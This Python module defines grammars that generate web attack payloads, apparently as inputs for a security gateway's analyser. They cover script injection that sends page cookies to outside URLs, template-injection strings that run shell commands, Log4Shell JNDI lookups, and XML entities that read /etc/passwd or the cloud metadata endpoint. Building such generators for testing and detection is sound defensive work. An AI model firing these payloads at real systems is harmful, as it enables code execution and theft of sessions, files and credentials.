"""Attacks on what makes or reads a page: scripts in markup, expressions in templates, entities in XML.

Written from the HTML and XML specifications and the template engines' manuals.
"""

from __future__ import annotations

from typing import Final

from gateway.analyst.text.grammar import Grammar

MARKUP: Final = Grammar(
    {
        "start": """
«leave»<script«attributes»>«js»</script>
«leave»<script src=«url»></script>
«leave»<«tag» «event»=«quote»«js»«quote»>
«leave»<«tag» «attribute»=«word» «event»=«js» >
«leave»<«tag»/«event»=«js»>
«leave»<img src=«letter» onerror=«js»>
«leave»<svg/onload=«js»>
«leave»<iframe src="javascript:«js»">
«leave»<a href="javascript:«js»">«word»</a>
«leave»<iframe srcdoc="<«tag» «event»=«js»>"></iframe>
" «event»="«js»
' «event»='«js»
" «event»=«js» «attribute»="
"autofocus «event»=«js» «letter»="
javascript:«js»
data:text/html,<script>«js»</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
'-«js»-'
"-«js»-"
';«js»//
";«js»//
\\';«js»//
</script><script>«js»</script>
<style>@import'«url»';</style>
<object data="javascript:«js»">
<embed src="«url»">
<form action="javascript:«js»"><input type=submit>
<math><mtext><«tag» «event»=«js»></math>
<meta http-equiv="refresh" content="0;url=javascript:«js»">
<base href="«url»">
<link rel=stylesheet href=«url»>
<x «event»=«js» contenteditable>
<video><source onerror="«js»">
${«js»}
<!--><svg onload=«js»>-->
<details open ontoggle=«js»>
<b style="width:expression(«js»)">
<svg><animate onbegin=«js» attributeName=x>
<isindex action=javascript:«js» type=image>
<scr<script>ipt>«js»</scr</script>ipt>
<img """,
        "leave": '«empty»\n«empty»\n">\n\'>\n>\n</textarea>\n</title>\n-->\n</style>\n«word»\n"/>\n\'"><b>',
        "attributes": "«empty»\n«empty» type=text/javascript\n/«letter»\n ",
        "tag": "img\nsvg\nbody\ninput\nvideo\naudio\ndetails\niframe\na\ndiv\nbutton\nmarquee\nselect\nobject\n«word»\nform\ntable\np\nkeygen\nbr",
        "event": "onerror\nonload\nonclick\nonfocus\nonmouseover\nonmouseenter\nontoggle\nonanimationstart\nonpointerover\nonblur\nonwheel\nonstart\noncut\nonkeydown\nonbeforetoggle\nontransitionend\non«word»",
        "attribute": "src\nclass\nid\nstyle\nhref\nautofocus tabindex\ntype\nalt",
        "quote": "\"\n'\n«empty»\n`",
        "js": """
alert(«small»)
alert(1)
alert`«small»`
alert('«word»')
alert(document.cookie)
alert(document.domain)
confirm(«small»)
prompt(«small»)
eval(atob('«token»'))
fetch('«url»'+document.cookie)
fetch(`«url»${document.cookie}`)
document.location='«url»'+document.cookie
window.location='«url»'
new Image().src='«url»'+document.cookie
top['al'+'ert'](«small»)
window['«word»']()
self[`«word»`](«small»)
eval(name)
eval(location.hash.slice(1))
import('«url»')
String.fromCharCode(«number»,«number»,«number»)
document.write('<img src=«url»>')
document.body.innerHTML='«word»'
localStorage.getItem('«word»')
setTimeout('«word»()',«small»)
[].constructor.constructor('alert(«small»)')()
Function('alert(«small»)')()
$.getScript('«url»')
(a=alert)(«small»)
onerror=alert;throw «small»
navigator.sendBeacon('«url»',document.cookie)
console.log(«small»)
print()
""",
        "url": "//«domain»\nhttp://«domain»/«letter».js\nhttps://«domain»/?«letter»=\n//«address»/«word»\nhttps://«domain»/«word»",
    }
)
TEMPLATES: Final = Grammar(
    {
        "start": """
«before»{{«sum»}}
«before»${«sum»}
«before»#{«sum»}
«before»<%= «sum» %>
«before»{{«python»}}
{% «statement» %}
«before»${«java»}
«before»#{«java»}
«before»*{«java»}
«before»@(«sum»)
«before»${{«sum»}}
«before»{«sum»}
«before»[[${«sum»}]]
<#assign «letter»="freemarker.template.utility.Execute"?new()>${«letter»("«word»")}
#set($«letter»='')#set($«letter»=$«letter».class.forName('java.lang.Runtime'))
{{constructor.constructor('alert(«small»)')()}}
{php}echo `«word»`;{/php}
{{['«word»']|filter('system')}}
{{_self.env.registerUndefinedFilterCallback('exec')}}
«jndi»
«jndi»
__${«java»}__::.x
<%= system('«word»') %>
<%= `«word»` %>
%{«java»}
%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#«letter»='«word»')}
{{«python»}}{{«sum»}}
#{«letter».getClass().forName("java.lang.Runtime")}
""",
        "before": "«empty»\n«empty»\n«word»\n«number»\n}}\nHello ",
        "sum": "«small»*«small»\n7*7\n«number»*«number»\n'«small»'*«small»\n7*'7'\n«number»+«number»\n«number»-«small»",
        "python": """
config
config.items()
self
request.application.__globals__
''.__class__.__mro__[«small»].__subclasses__()
[].__class__.__base__.__subclasses__()[«number»]
«word».__init__.__globals__['os'].popen('«word»').read()
cycler.__init__.__globals__.os.popen('«word»').read()
lipsum.__globals__['os'].popen('«word»').read()
request|attr('application')|attr('__globals__')
url_for.__globals__
get_flashed_messages.__globals__.__builtins__
()|attr('__class__')|attr('__base__')
settings.SECRET_KEY
""",
        "statement": "for «letter» in ().__class__.__base__.__subclasses__()\nimport os\ninclude '/etc/passwd'\nset «letter» = ''.__class__\nif «small» == «small»\ndebug\nload «word»",
        "java": "T(java.lang.Runtime).getRuntime().exec('«word»')\nT(java.lang.System).getenv()\n«letter».class.forName('java.lang.Runtime')\nnew java.lang.ProcessBuilder({'«word»'}).start()\n@java.lang.Runtime@getRuntime().exec('«word»')\npageContext.request.getSession()\nsessionScope\nT(org.apache.commons.io.IOUtils).toString(«small»)\n''.getClass().forName('java.lang.Runtime')\napplicationScope",
        "jndi": "${jndi:ldap://«domain»/«letter»}\n${jndi:rmi://«address»:«number»/«word»}\n${jndi:dns://«domain»}\n${${lower:j}ndi:${lower:l}dap://«domain»/«letter»}\n${${::-j}${::-n}${::-d}${::-i}:ldap://«domain»/«letter»}\n${jndi:ldap://${env:«word»}.«domain»/«letter»}\n${${env:«letter»:-j}ndi:iiop://«domain»/«letter»}\n${sys:java.version}\n${env:AWS_SECRET_ACCESS_KEY}",
    }
)
XML: Final = Grammar(
    {
        "start": """
«prolog»<!DOCTYPE «word» [<!ENTITY «letter» SYSTEM "«uri»">]><«word»>&«letter»;</«word»>
«prolog»<!DOCTYPE «word» [ <!ELEMENT «word» ANY ><!ENTITY «letter» SYSTEM "«uri»" >]><«word»>&«letter»;</«word»>
«prolog»<!DOCTYPE «word» [<!ENTITY % «letter» SYSTEM "«uri»"> %«letter»;]>
«prolog»<!DOCTYPE «word» SYSTEM "«uri»"><«word»/>
<!DOCTYPE «word» [<!ENTITY % «letter» SYSTEM "«uri»"><!ENTITY % «word» "<!ENTITY &#x25; «letter» SYSTEM '«uri»?%«letter»;'>">%«word»;]>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol«small» "&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><«word»>&lol«small»;</«word»>
<«word» xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="«uri»"/></«word»>
<?xml-stylesheet type="text/xsl" href="«uri»"?><«word»/>
<!ENTITY «letter» SYSTEM "«uri»">
<!DOCTYPE «word» PUBLIC "-//«word»//«letter»" "«uri»">
<svg><image xlink:href="«uri»"/></svg>
""",
        "prolog": '<?xml version="1.0"?>\n<?xml version="1.0" encoding="UTF-8"?>\n<?xml version="1.0" encoding="utf-16" standalone="no"?>\n«empty»',
        "uri": "file:///etc/passwd\nfile:///«word»/«word»\nhttp://«domain»/«letter».dtd\nhttp://169.254.169.254/latest/\nphp://filter/read=convert.base64-encode/resource=«word».php\nexpect://id\nfile:///c:/windows/win.ini\nftp://«address»/«letter»\nhttps://«domain»/«word»\n/etc/passwd\ngopher://«address»/«letter»",
    }
)
